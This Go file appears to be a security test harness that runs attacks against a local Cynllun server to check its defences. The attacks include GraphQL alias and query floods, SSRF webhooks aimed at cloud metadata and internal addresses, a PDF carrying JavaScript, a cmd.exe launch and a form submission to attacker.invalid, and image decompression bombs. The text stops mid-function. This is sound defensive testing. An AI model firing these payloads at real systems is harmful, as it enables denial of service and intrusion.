// Command attack starts Cynllun the way `make run` does (the app package,
// embedded FerretDB, in-process Redis unless REDIS_URL is set, the sample
// data) but in production settings (no introspection, no playground, JWT
// issuer and audience set), and sends it the attacks of issue 14, one item
// at a time. For each it prints the attack, the time taken, the HTTP status,
// extensions.code and PASS or FAIL against the defence the issue asks for.
// It reports what the server answered: it never assumes a defence. It exits
// 1 when any attack is not defended.
//
//	go run -tags ferretdb_no_postgresql ./cmd/attack [-timeout 15s] [-run 2,9]
package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"hash/crc32"
	"io"
	"log/slog"
	"mime/multipart"
	"net"
	"net/http"
	"net/textproto"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/coder/websocket"
	"github.com/coder/websocket/wsjson"

	"github.com/cynllun/cynllun"
	"github.com/cynllun/cynllun/app"
	"github.com/cynllun/cynllun/auth"
	"github.com/cynllun/cynllun/internal/pdftest"
	"github.com/cynllun/cynllun/seed"
)

const (
	issuer   = "https://idp.attack.invalid"
	audience = "cynllun"
	// A school and its ALNCo in another LA (Swansea): item 6's target and
	// item 10's unrelated user.
	swanseaSchool = cynllun.PrefixOrganisation + "attack_swansea_school"
	swanseaStaff  = cynllun.PrefixUser + "attack_swansea_alnco"
)

func main() {
	timeout := flag.Duration("timeout", 15*time.Second, "the longest one request of an attack may take")
	only := flag.String("run", "", "comma-separated item numbers to run (default all), e.g. 1,2,10")
	flag.Parse()
	os.Exit(run(*timeout, *only))
}

// logBuffer keeps the server's log lines, to check what an attack logged.
type logBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (l *logBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.Write(p)
}

func (l *logBuffer) count(s string) int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return strings.Count(l.buf.String(), s)
}

func run(timeout time.Duration, only string) int {
	ctx, stop := context.WithCancel(context.Background())
	defer stop()
	dir, err := os.MkdirTemp("", "cynllun-attack-")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	defer os.RemoveAll(dir)

	cfg, err := app.FromEnv(os.Getenv, false)
	if err != nil {
		fmt.Fprintln(os.Stderr, "config:", err)
		return 2
	}
	cfg.DataDir, cfg.MongoURI = dir, ""
	cfg.RedisURL = os.Getenv("REDIS_URL") // empty: in-process Redis, as `make run`
	cfg.JWTSecret, cfg.JWKSURL = randomHex(32), ""
	cfg.JWTIssuer, cfg.JWTAudience = issuer, audience
	cfg.Introspection, cfg.Playground = false, false
	logs := &logBuffer{}
	log := slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelInfo}))
	p, err := app.Open(ctx, cfg, log, true)
	if err != nil {
		fmt.Fprintln(os.Stderr, "open:", err)
		return 2
	}
	defer p.Close(context.Background())
	now := time.Now()
	if err := seed.Sample(ctx, p.DB, now); err != nil {
		fmt.Fprintln(os.Stderr, "seed:", err)
		return 2
	}
	if err := p.DB.CreateOrganisation(ctx, &cynllun.Organisation{ID: swanseaSchool, Kind: cynllun.OrgSchool, Name: "Ysgol Bryn Tawe (attack)", LAID: seed.LAID("W06000011"), CreatedAt: now, CreatedBy: "attack"}); err != nil {
		fmt.Fprintln(os.Stderr, "seed:", err)
		return 2
	}
	if err := p.DB.UpsertUser(ctx, &cynllun.User{ID: swanseaStaff, Name: "Swansea ALNCo", Email: "swansea@example.invalid", CreatedAt: now}); err != nil {
		fmt.Fprintln(os.Stderr, "seed:", err)
		return 2
	}
	if err := p.DB.CreateRelationship(ctx, &cynllun.Relationship{ID: cynllun.NewID(cynllun.PrefixRelationship), UserID: swanseaStaff, Kind: cynllun.RelStaffOf, OrgID: swanseaSchool, StaffRole: "ALNCo", CreatedAt: now}); err != nil {
		fmt.Fprintln(os.Stderr, "seed:", err)
		return 2
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	go func() { _ = app.ServeHTTP(ctx, ln, p.Handler(), 5*time.Second) }()
	// The worker too, as `make run` starts it: item 8 builds a bundle. It
	// stops before the stores close (deferred calls run last first).
	wctx, stopWorker := context.WithCancel(ctx)
	workerDone := make(chan struct{})
	go func() { defer close(workerDone); _ = p.Worker().Run(wctx) }()
	defer func() { stopWorker(); <-workerDone }()

	a := &attacker{
		base: "http://" + ln.Addr().String(), secret: []byte(p.Config.JWTSecret), timeout: timeout, logs: logs,
		client: &http.Client{Timeout: timeout, Transport: &http.Transport{MaxIdleConnsPerHost: 64}},
	}
	fmt.Printf("Cynllun under attack at %s (production settings; rate %d/s, burst %d, %d at once per principal)\n\n",
		a.base, cfg.Limits.PerSecond, cfg.Limits.Burst, cfg.Limits.Concurrent)
	fmt.Printf("%-4s %-74s %9s %6s %-16s %s\n", "item", "attack", "time", "status", "code", "verdict")
	items := []func(){a.item1, a.item2, a.item3, a.item4, a.item5, a.item6, a.item7, a.item8, a.item9, a.item10}
	for i, item := range items {
		if only != "" && !slices.Contains(strings.Split(only, ","), fmt.Sprint(i+1)) {
			continue
		}
		a.item = i + 1
		a.settle()
		item()
	}
	fmt.Printf("\n%d attacks: %d defended, %d not defended\n", a.passed+a.failed, a.passed, a.failed)
	if a.failed > 0 {
		return 1
	}
	return 0
}

type attacker struct {
	base    string
	secret  []byte
	timeout time.Duration
	client  *http.Client
	logs    *logBuffer
	item    int

	passed, failed int
}

// settle waits, before each item, until the users' rates have refilled and
// the server answers a simple read within 100ms again (work an earlier
// attack left running ends), for at most 2 minutes, so that one item's
// flood does not decide the next one's answer.
func (a *attacker) settle() {
	time.Sleep(3 * time.Second)
	tok := a.token(seed.OfficerID)
	for end := time.Now().Add(2 * time.Minute); time.Now().Before(end); time.Sleep(time.Second) {
		if r := a.gql(tok, `{ me { id } }`, nil); r.code == "OK" && r.took < 100*time.Millisecond {
			return
		}
	}
	fmt.Println("     (the server was still busy with earlier attacks after 2 minutes)")
}

func (a *attacker) token(userID string) string {
	tok, err := auth.Mint(a.secret, issuer, audience, userID, time.Hour, time.Now())
	if err != nil {
		panic(err)
	}
	return tok
}

// answer is what the server said to one request.
type answer struct {
	status     int
	code       string // extensions.code of the first error; OK without errors
	message    string
	retryAfter string
	data       map[string]json.RawMessage
	raw        []byte
	took       time.Duration
	err        error
}

func (r answer) String() string {
	if r.err != nil {
		return "error: " + r.err.Error()
	}
	return fmt.Sprintf("%d %s", r.status, r.code)
}

func (a *attacker) do(req *http.Request, token string) answer {
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	start := time.Now()
	resp, err := a.client.Do(req)
	if err != nil {
		return answer{err: err, took: time.Since(start), code: "-"}
	}
	defer resp.Body.Close()
	raw, err := io.ReadAll(io.LimitReader(resp.Body, 64<<20))
	r := answer{status: resp.StatusCode, retryAfter: resp.Header.Get("Retry-After"), raw: raw, took: time.Since(start), err: err, code: "OK"}
	var out struct {
		Data   map[string]json.RawMessage `json:"data"`
		Errors []struct {
			Message    string         `json:"message"`
			Extensions map[string]any `json:"extensions"`
		} `json:"errors"`
	}
	if json.Unmarshal(raw, &out) != nil {
		r.code = "(not JSON)"
		return r
	}
	r.data = out.Data
	if len(out.Errors) > 0 {
		r.code, _ = out.Errors[0].Extensions["code"].(string)
		if r.code == "" {
			r.code = "(no code)"
		}
		r.message = out.Errors[0].Message
	}
	return r
}

func (a *attacker) gql(token, query string, vars map[string]any) answer {
	body, _ := json.Marshal(map[string]any{"query": query, "variables": vars})
	req, _ := http.NewRequest(http.MethodPost, a.base+"/graphql", bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	return a.do(req, token)
}

// upload sends a GraphQL multipart request with one file as $file.
func (a *attacker) upload(token, query string, vars map[string]any, name, contentType string, data []byte) answer {
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	vars["file"] = nil
	ops, _ := json.Marshal(map[string]any{"query": query, "variables": vars})
	_ = mw.WriteField("operations", string(ops))
	_ = mw.WriteField("map", `{"0": ["variables.file"]}`)
	h := textproto.MIMEHeader{}
	h.Set("Content-Disposition", fmt.Sprintf(`form-data; name="0"; filename=%q`, name))
	h.Set("Content-Type", contentType)
	w, _ := mw.CreatePart(h)
	_, _ = w.Write(data)
	_ = mw.Close()
	req, _ := http.NewRequest(http.MethodPost, a.base+"/graphql", &body)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	return a.do(req, token)
}

// report prints one attack's line and counts it.
func (a *attacker) report(attack string, r answer, pass bool, note string) {
	verdict := "PASS"
	if !pass {
		verdict = "FAIL"
		a.failed++
	} else {
		a.passed++
	}
	if note != "" {
		verdict += " (" + note + ")"
	}
	if len(attack) > 74 {
		attack = attack[:71] + "..."
	}
	status := "-"
	if r.status != 0 {
		status = fmt.Sprint(r.status)
	}
	fmt.Printf("%-4d %-74s %9s %6s %-16s %s\n", a.item, attack, r.took.Round(100*time.Microsecond), status, r.code, verdict)
}

// refused says an answer refused the request as a whole: an error code and
// no data.
func refused(r answer) bool {
	if r.err != nil || r.code == "OK" {
		return false
	}
	for _, v := range r.data {
		if string(v) != "null" {
			return false
		}
	}
	return true
}

// --- 1. Anonymous CPU exhaustion ---

func (a *attacker) item1() {
	for _, n := range []int{2000, 8000} {
		q := "{" + strings.Repeat(" __typename", n) + " }"
		r := a.gql("", q, nil)
		pass := refused(r) && r.took < 50*time.Millisecond
		a.report(fmt.Sprintf("anonymous request repeating one field %d times (%d KB), no token", n, len(q)>>10), r, pass, "want refused in < 50ms")
	}
	// The 150 KB variant, sent and abandoned after 100ms: the server
	// must not keep working for a client that left. What is measured is
	// a simple read by someone else right after.
	q := "{" + strings.Repeat(" __typename", 150<<10/11) + " }"
	ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
	body, _ := json.Marshal(map[string]any{"query": q})
	req, _ := http.NewRequestWithContext(ctx, http.MethodPost, a.base+"/graphql", bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	first := a.do(req, "")
	cancel()
	r := a.gql(a.token(seed.OfficerID), `{ me { id } }`, nil)
	a.report("anonymous 150 KB request abandoned after 100ms, then another user's read", r, r.code == "OK" && r.took < 500*time.Millisecond,
		"first answer: "+first.String()+"; want the read in < 500ms")
}

// --- 2. Aliases ---

func aliased(n int, field string) string {
	var b strings.Builder
	b.WriteString("query($id: ID!) {")
	for i := range n {
		fmt.Fprintf(&b, " a%d: %s", i, field)
	}
	return b.String() + " }"
}

func (a *attacker) item2() {
	parent := a.token(seed.ParentID)
	vars := map[string]any{"id": seed.PlanID}
	ledger := `plan(id: $id) { ledger { rows { planned delivered shortfallSessions } } }`
	for _, n := range []int{1000, 2200} {
		r := a.gql(parent, aliased(n, ledger), vars)
		a.report(fmt.Sprintf("parent: %d aliased Plan.ledger reads in one request", n), r, refused(r) && r.took < time.Second, "want refused before execution")
	}
	var check strings.Builder
	check.WriteString("query($id: ID!, $c: PlanContentInput!) {")
	for i := range 400 {
		fmt.Fprintf(&check, " a%d: checkPlan(planId: $id, content: $c) { rule }", i)
	}
	check.WriteString(" }")
	content := map[string]any{"needs": []any{map[string]any{"description": "x", "impactOnLearning": "y"}}}
	r := a.gql(a.token(seed.ALNCoID), check.String(), map[string]any{"id": seed.PlanID, "c": content})
	a.report("ALNCo: 400 aliased checkPlan in one request", r, refused(r) && r.took < time.Second, fmt.Sprintf("want refused before execution; %d KB answered", len(r.raw)>>10))
	a.twoTimes(parent, aliased(1000, ledger), vars)
}

// twoTimes measures the 2× rule: an officer's simple read idle, then while
// the parent sends the attack from 8 connections at once.
func (a *attacker) twoTimes(attackerToken, query string, vars map[string]any) {
	officer := a.token(seed.OfficerID)
	read := `query($id: ID!) { plan(id: $id) { id currentVersionNumber } }`
	median := func(n int) (time.Duration, answer) {
		var ds []time.Duration
		var last answer
		for range n {
			last = a.gql(officer, read, map[string]any{"id": seed.PlanID})
			if last.code != "OK" {
				return 0, last
			}
			ds = append(ds, last.took)
		}
		slices.Sort(ds)
		return ds[len(ds)/2], last
	}
	idle, r := median(9)
	if idle == 0 {
		a.report("another user's simple read (idle)", r, false, "read failed")
		return
	}
	ctx, stop := context.WithCancel(context.Background())
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			for ctx.Err() == nil {
				if x := a.gql(attackerToken, query, vars); x.code == "RATE_LIMITED" {
					time.Sleep(5 * time.Millisecond)
				}
			}
		})
	}
	time.Sleep(500 * time.Millisecond)
	busy, r := median(9)
	stop()
	wg.Wait()
	if busy == 0 {
		a.report("another user's simple read while the parent floods", r, false, "read failed")
		return
	}
	ratio := float64(busy) / float64(idle)
	r.took = busy
	a.report("another user's simple read while the parent sends 1,000-alias requests ×8", r, ratio <= 2,
		fmt.Sprintf("idle %v, under attack %v: ×%.2f, want ≤ 2", idle.Round(100*time.Microsecond), busy.Round(100*time.Microsecond), ratio))
}

// --- 3. Self-granted family access ---

func (a *attacker) item3() {
	grant := `mutation($in: GrantAccessInput!) { grantAccess(input: $in) { relationship { id } } }`
	r := a.gql(a.token(seed.ALNCoID), grant, map[string]any{"in": map[string]any{"userId": seed.ALNCoID, "kind": "PARENT_OF", "learnerId": seed.Learner1ID}})
	a.report("ALNCo grants themselves open-ended PARENT_OF a learner", r, refused(r), "want refused")
	r = a.gql(a.token(seed.ALNCoID), grant, map[string]any{"in": map[string]any{"userId": seed.ALNCoID, "kind": "ADVOCATE_FOR", "learnerId": seed.Learner1ID,
		"endsAt": time.Now().Add(24 * time.Hour).Format(time.RFC3339)}})
	a.report("ALNCo grants themselves ADVOCATE_FOR a learner", r, refused(r), "want refused")
}

// --- 4. Admins read learner data ---

func (a *attacker) item4() {
	admin := a.token(seed.AdminID)
	r := a.gql(admin, `mutation($in: GrantAccessInput!) { grantAccess(input: $in) { relationship { id } } }`,
		map[string]any{"in": map[string]any{"userId": seed.AdminID, "kind": "OFFICER_OF", "orgId": seed.CardiffID, "staffRole": "ALN officer"}})
	a.report("admin grants themselves OFFICER_OF the LA", r, refused(r), "want refused")
	r = a.gql(admin, `query($id: ID!) { plan(id: $id) { id currentVersion { number } } auditEvents(learnerId: "`+seed.Learner1ID+`") { edges { node { id } } } }`,
		map[string]any{"id": seed.PlanID})
	a.report("admin reads a plan and its audit trail", r, refused(r) || (string(r.data["plan"]) == "null" && r.code != "OK"), "want no learner data")
}

// --- 5. Webhook SSRF ---

func (a *attacker) item5() {
	// A receiver on loopback that counts what reaches it.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return
	}
	defer ln.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			_ = c.Close()
		}
	}()
	staff := a.token(seed.ALNCoID)
	for _, url := range []string{
		fmt.Sprintf("http://127.0.0.1:%d/hook", port),
		fmt.Sprintf("https://[::1]:%d/hook", port),
		"https://169.254.169.254/latest/meta-data/",
		"https://10.0.0.1/internal",
	} {
		r := a.gql(staff, `mutation($org: ID!, $url: String!) { createWebhookEndpoint(input: {orgId: $org, url: $url}) { secret } }`,
			map[string]any{"org": seed.SchoolID, "url": url})
		a.report("ALNCo points a webhook at "+url, r, refused(r), "want refused")
	}
}

// --- 6. Notices to unrelated schools ---

func (a *attacker) item6() {
	r := a.gql(a.token(seed.ALNCoID), `mutation($in: StatutoryEventInput!) { recordStatutoryEvent(input: $in) { event { id } started { id } } }`,
		map[string]any{"in": map[string]any{"learnerId": seed.Learner1ID, "kind": "ALN_BROUGHT_TO_ATTENTION", "on": time.Now().Format("2006-01-02"), "orgId": swanseaSchool}})
	a.report("Cardiff ALNCo records a statutory event for a Swansea school", r, refused(r), "want refused")
}

// --- 7. Flooding ---

func (a *attacker) item7() {
	var b strings.Builder
	b.WriteString("mutation($id: ID!) {")
	for i := range 50 {
		fmt.Fprintf(&b, ` r%d: requestReview(input: {planId: $id, reason: "Please review the plan"}) { review { id } }`, i)
	}
	b.WriteString(" }")
	r := a.gql(a.token(seed.ParentID), b.String(), map[string]any{"id": seed.PlanID})
	ids := distinctIDs(r)
	a.report("parent: 50 review requests in one request", r, r.err == nil && len(ids) <= 1, fmt.Sprintf("%d distinct open requests; want at most 1", len(ids)))

	b.Reset()
	b.WriteString("mutation($l: ID!, $on: Date!) {")
	for i := range 50 {
		fmt.Fprintf(&b, ` e%d: recordStatutoryEvent(input: {learnerId: $l, kind: ALN_BROUGHT_TO_ATTENTION, on: $on}) { event { id } }`, i)
	}
	b.WriteString(" }")
	r = a.gql(a.token(seed.ALNCoID), b.String(), map[string]any{"l": seed.Learner1ID, "on": time.Now().Format("2006-01-02")})
	ids = distinctIDs(r)
	a.report("ALNCo: 50 statutory events (deadlines, notices) in one request", r, r.err == nil && len(ids) <= 1, fmt.Sprintf("%d distinct events; want at most 1", len(ids)))

	// A burst of plain requests: the principal's rate must answer 429
	// with Retry-After, and another user must still be served.
	parent := a.token(seed.ParentID)
	var limited answer
	start := time.Now()
	for range 200 {
		if x := a.gql(parent, `{ me { id } }`, nil); x.status == http.StatusTooManyRequests {
			limited = x
			break
		}
	}
	limited.took = time.Since(start)
	a.report("parent: 200 requests back to back", limited, limited.code == "RATE_LIMITED" && limited.retryAfter != "",
		"want 429 RATE_LIMITED with Retry-After: "+limited.retryAfter)
	other := a.gql(a.token(seed.OfficerID), `{ me { id } }`, nil)
	a.report("officer's read right after the parent's burst", other, other.code == "OK", "want served")
}

func distinctIDs(r answer) map[string]bool {
	ids := map[string]bool{}
	for _, v := range r.data {
		var x struct {
			ID    string `json:"id"`
			Event struct {
				ID string `json:"id"`
			} `json:"event"`
		}
		if json.Unmarshal(v, &x) == nil {
			if x.ID != "" {
				ids[x.ID] = true
			}
			if x.Event.ID != "" {
				ids[x.Event.ID] = true
			}
		}
	}
	return ids
}

// --- 8. Active content in bundles ---

// activePDF is a one-page PDF whose opening runs JavaScript and whose page
// has a link that launches a program and one that submits a form.
func activePDF() []byte {
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >> >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [5 0 R 6 0 R] /AA << /O 4 0 R >> >>",
		"<< /Type /Action /S /JavaScript /JS (app.alert\\('bundle'\\);) >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (cmd.exe) >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [100 0 200 100] /A << /S /SubmitForm /F << /FS /URL /F (https://attacker.invalid/) >> >> >>",
	}
	return pdftest.Raw("1.7", objs...)
}

func (a *attacker) item8() {
	const what = "evidence PDF with JavaScript, /Launch and /SubmitForm, then a bundle"
	// The LA is the respondent of the sample appeal: it files evidence and
	// prepares the bundle (issue 17).
	staff := a.token(seed.OfficerID)
	r := a.upload(staff, `mutation($c: ID!, $file: Upload!) { addEvidence(input: {caseId: $c, title: "Report", kind: REPORT, file: $file}) { evidence { id file { id } } } }`,
		map[string]any{"c": seed.CaseID}, "report.pdf", "application/pdf", activePDF())
	if refused(r) {
		a.report(what, r, r.code == "INVALID", "refused; want INVALID with a clear message")
		return
	}
	// Accepted: the bundle Cynllun issues must carry none of it. Build one
	// with the worker and inspect every object, uncompressed.
	start := time.Now()
	b := a.gql(staff, `mutation($id: ID!) { renderBundle(input: {caseId: $id}) { bundle { id } } }`, map[string]any{"id": seed.CaseID})
	var bundle struct {
		ID string `json:"id"`
	}
	var payload struct {
		Bundle *json.RawMessage `json:"bundle"`
	}
	if json.Unmarshal(b.data["renderBundle"], &payload) == nil && payload.Bundle != nil {
		_ = json.Unmarshal(*payload.Bundle, &bundle)
	}
	if bundle.ID == "" {
		a.report(what, b, false, "could not ask for a bundle")
		return
	}
	var node struct {
		Status string `json:"status"`
		File   *struct {
			ID string `json:"id"`
		} `json:"file"`
	}
	for deadline := time.Now().Add(90 * time.Second); time.Now().Before(deadline); time.Sleep(250 * time.Millisecond) {
		n := a.gql(staff, `query($id: ID!) { node(id: $id) { ... on Bundle { status file { id } } } }`, map[string]any{"id": bundle.ID})
		_ = json.Unmarshal(n.data["node"], &node)
		if node.Status == "SUCCEEDED" || node.Status == "FAILED" {
			break
		}
	}
	if node.Status != "SUCCEEDED" || node.File == nil {
		a.report(what, answer{took: time.Since(start), code: "-"}, false, "the bundle was not rendered (status "+node.Status+")")
		return
	}
	req, _ := http.NewRequest(http.MethodGet, a.base+"/files/"+node.File.ID, nil)
	got := a.do(req, staff)
	plain, err := uncompressed(got.raw)
	if err != nil {
		a.report(what, answer{took: time.Since(start), code: "-"}, false, "could not inspect the bundle: "+err.Error())
		return
	}
	var found []string
	for _, k := range []string{"/S /JavaScript", "/JS", "/Launch", "/SubmitForm", "/ImportData", "/EmbeddedFile", "app.alert", "cmd.exe", "attacker.invalid"} {
		if bytes.Contains(plain, []byte(k)) {
			found = append(found, k)
		}
	}
	a.report(what, answer{took: time.Since(start), status: got.status, code: r.code}, got.status == http.StatusOK && len(found) == 0,
		fmt.Sprintf("accepted; the bundle (%d KB) holds %v; want none", len(got.raw)>>10, found))
}

// uncompressed is pdf with every stream and object stream uncompressed
// (qpdf --qdf), so that a key inside a compressed object is found.
func uncompressed(pdf []byte) ([]byte, error) {
	if _, err := exec.LookPath("qpdf"); err != nil {
		return nil, fmt.Errorf("qpdf not found: install qpdf")
	}
	dir, err := os.MkdirTemp("", "attack-bundle-")
	if err != nil {
		return nil, err
	}
	defer os.RemoveAll(dir)
	in := filepath.Join(dir, "bundle.pdf")
	if err := os.WriteFile(in, pdf, 0o600); err != nil {
		return nil, err
	}
	return exec.Command("qpdf", "--qdf", "--object-streams=disable", in, "-").Output()
}

// --- 9. Image bombs ---

// hugePNG is a PNG header of a 100,000 × 100,000 16-bit RGBA image (80 GB
// decoded) with one tiny IDAT chunk.
func hugePNG() []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	chunk := func(typ string, data []byte) {
		_ = binary.Write(&b, binary.BigEndian, uint32(len(data)))
		crc := crc32.NewIEEE()
		crc.Write([]byte(typ))
		crc.Write(data)
		b.WriteString(typ)
		b.Write(data)
		_ = binary.Write(&b, binary.BigEndian, crc.Sum32())
	}
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], 100000)
	binary.BigEndian.PutUint32(ihdr[4:], 100000)
	ihdr[8], ihdr[9] = 16, 6 // 16 bits, RGBA
	chunk("IHDR", ihdr)
	chunk("IDAT", []byte{0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01})
	chunk("IEND", nil)
	return b.Bytes()
}

// hugeJPEG is the header of a progressive CMYK JPEG of 60,000 × 60,000
// pixels (14 GB decoded).
func hugeJPEG() []byte {
	var b bytes.Buffer
	b.Write([]byte{0xFF, 0xD8})                                                             // SOI
	b.Write([]byte{0xFF, 0xEE, 0x00, 0x0E, 'A', 'd', 'o', 'b', 'e', 0, 100, 0, 0, 0, 0, 2}) // APP14 Adobe (YCCK)
	// DQT: one table of 64 ones.
	b.Write([]byte{0xFF, 0xDB, 0x00, 0x43, 0x00})
	b.Write(bytes.Repeat([]byte{1}, 64))
	// SOF2 (progressive), 8 bits, 60000 × 60000, 4 components.
	b.Write([]byte{0xFF, 0xC2, 0x00, 0x14, 8, 0xEA, 0x60, 0xEA, 0x60, 4,
		1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0, 4, 0x11, 0})
	b.Write([]byte{0xFF, 0xD9}) // EOI
	return b.Bytes()
}

func (a *attacker) item9() {
	staff := a.token(seed.ALNCoID)
	up := `mutation($l: ID!, $file: Upload!) { uploadAttachment(input: {learnerId: $l, file: $file}) { file { id } } }`
	for _, f := range []struct {
		name, ct, what string
		data           []byte
	}{
		{"scan.png", "image/png", "PNG header 100,000 × 100,000 16-bit RGBA (80 GB decoded)", hugePNG()},
		{"scan.jpg", "image/jpeg", "progressive CMYK JPEG header 60,000 × 60,000 (14 GB decoded)", hugeJPEG()},
	} {
		r := a.upload(staff, up, map[string]any{"l": seed.Learner1ID}, f.name, f.ct, f.data)
		a.report("upload: "+f.what, r, refused(r) && r.code == "INVALID" && r.took < 2*time.Second, "want INVALID from the header, quickly")
	}
}

// --- 10. Smaller ---

func (a *attacker) item10() {
	a.subscriptionExpiry()

	errorsBefore := a.logs.count("level=ERROR")
	r := a.gql("", `{ __schema { types { name } } }`, nil)
	a.report("anonymous introspection", r, refused(r) && r.code != "INTERNAL" && a.logs.count("level=ERROR") == errorsBefore, "want a typed error, no ERROR log")
	r = a.gql(a.token(seed.ParentID), `{ __schema { types { name } } }`, nil)
	a.report("introspection by a signed-in parent (production)", r, refused(r) && r.code != "INTERNAL" && a.logs.count("level=ERROR") == errorsBefore, "want a typed error, no ERROR log")

	r = a.gql(a.token(seed.ParentID), `{ learnr(id: "x") { id } plann(id: "x") { id } }`, nil)
	a.report("misspelt fields in production", r, refused(r) && !strings.Contains(string(r.raw), "Did you mean"), "want no field suggestions")

	grant := `mutation($in: GrantAccessInput!) { grantAccess(input: $in) { relationship { id } } }`
	staff := a.token(seed.ALNCoID)
	// An unknown id and an existing account that may not be granted this
	// access (an administrator's) must get one answer: the refusal must not
	// tell which ids exist. (A grant that succeeds confirms its grantee, as
	// any grant must; user ids are UUIDv7s, 74 random bits, so they cannot
	// be found by trying.)
	unknown := a.gql(staff, grant, map[string]any{"in": map[string]any{"userId": cynllun.PrefixUser + "no_such_user_7f3a", "kind": "PARENT_OF", "learnerId": seed.Learner1ID}})
	ineligible := a.gql(staff, grant, map[string]any{"in": map[string]any{"userId": seed.AdminID, "kind": "PARENT_OF", "learnerId": seed.Learner1ID}})
	ineligible.took += unknown.took
	a.report("grantAccess: unknown user id vs an existing ineligible user's", ineligible,
		refused(unknown) && unknown.code == ineligible.code && unknown.message == ineligible.message,
		fmt.Sprintf("unknown: %s %q; ineligible: %s %q; want the same refusal", unknown.code, unknown.message, ineligible.code, ineligible.message))

	create := `mutation($in: LearnerInput!) { createLearner(input: $in) { learner { id } } }`
	learner := func(given, dob string) map[string]any {
		return map[string]any{"in": map[string]any{"givenName": given, "familyName": "Jones", "dateOfBirth": dob, "language": "EN",
			"laId": seed.CardiffID, "settingKind": "SCHOOL", "settingId": seed.SchoolID}}
	}
	for _, c := range []struct{ what, given, dob string }{
		{"whitespace-only name", " \t ", "2016-03-01"},
		{"name with a bidirectional override", "Sio\u202En", "2016-03-01"},
		{"date of birth in 1900", "Siôn", "1900-01-01"},
	} {
		r := a.gql(staff, create, learner(c.given, c.dob))
		a.report("createLearner with a "+c.what, r, refused(r) && r.code == "INVALID", "want INVALID")
	}
}

// subscriptionExpiry subscribes with a token that is about to expire and
// checks that an event arrives while it is valid and none once it has
// expired.
func (a *attacker) subscriptionExpiry() {
	const what = "subscription: plan events after the token expired"
	start := time.Now()
	// A token expiring 3s from now (JWT times are whole seconds: 2–3s).
	tok, err := auth.Mint(a.secret, issuer, audience, seed.ParentID, 3*time.Second, time.Now())
	if err != nil {
		panic(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	c, _, err := websocket.Dial(ctx, strings.Replace(a.base, "http", "ws", 1)+"/graphql", &websocket.DialOptions{Subprotocols: []string{"graphql-transport-ws"}})
	if err != nil {
		a.report(what, answer{took: time.Since(start), code: "-"}, false, "could not connect: "+err.Error())
		return
	}
	defer c.CloseNow()
	_ = wsjson.Write(ctx, c, map[string]any{"type": "connection_init", "payload": map[string]any{"authorization": "Bearer " + tok}})
	var ack map[string]any
	if err := wsjson.Read(ctx, c, &ack); err != nil || ack["type"] != "connection_ack" {
		a.report(what, answer{took: time.Since(start), code: "-"}, true, fmt.Sprintf("refused at connect (%v %v)", ack["type"], err))
		return
	}
	_ = wsjson.Write(ctx, c, map[string]any{"id": "1", "type": "subscribe", "payload": map[string]any{
		"query": `subscription($id: ID!) { planVersionSaved(planId: $id) { planId number } }`, "variables": map[string]any{"id": seed.PlanID}}})
	events := make(chan string, 100)
	go func() {
		defer close(events)
		for {
			var m map[string]any
			if err := wsjson.Read(ctx, c, &m); err != nil {
				return
			}
			t, _ := m["type"].(string)
			events <- t
		}
	}()
	staff := a.token(seed.ALNCoID)
	save := func() bool {
		cur := a.gql(staff, `query($id: ID!) { plan(id: $id) { currentVersionNumber } }`, map[string]any{"id": seed.PlanID})
		var p struct {
			N int `json:"currentVersionNumber"`
		}
		_ = json.Unmarshal(cur.data["plan"], &p)
		r := a.gql(staff, `mutation($in: SaveVersionInput!) { saveVersion(input: $in) { version { number } } }`, map[string]any{"in": map[string]any{
			"planId": seed.PlanID, "expectedVersion": p.N, "status": "DRAFT", "content": sampleContent()}})
		return r.code == "OK"
	}
	// collect gathers message types for d, or until the connection ends.
	collect := func(d time.Duration) (types []string, closed bool) {
		timer := time.After(d)
		for {
			select {
			case t, ok := <-events:
				if !ok {
					return types, true
				}
				types = append(types, t)
			case <-timer:
				return types, false
			}
		}
	}
	// While the token is valid: an event arrives (the subscription works).
	time.Sleep(300 * time.Millisecond)
	if !save() {
		a.report(what, answer{took: time.Since(start), code: "-"}, false, "could not save a version to cause an event")
		return
	}
	before, _ := collect(1500 * time.Millisecond)
	if !slices.Contains(before, "next") {
		a.report(what, answer{took: time.Since(start), code: "-"}, false, fmt.Sprintf("no event while the token was valid (%v): the attack proves nothing", before))
		return
	}
	// The token is past its leeway 3s after connecting; save for 4s after.
	time.Sleep(time.Until(start.Add(5 * time.Second)))
	var after []string
	closed := false
	saved := 0
